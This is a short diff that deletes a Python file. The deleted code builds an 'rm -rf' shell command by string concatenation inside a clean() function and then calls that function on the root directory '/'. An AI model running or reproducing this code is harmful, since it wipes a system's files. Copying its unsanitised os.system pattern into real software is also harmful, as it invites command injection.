@@ -1,6 +1,0 @@
-import os
-
-def clean(path):
-    os.system('rm -rf ' + path)
-
-clean('/')
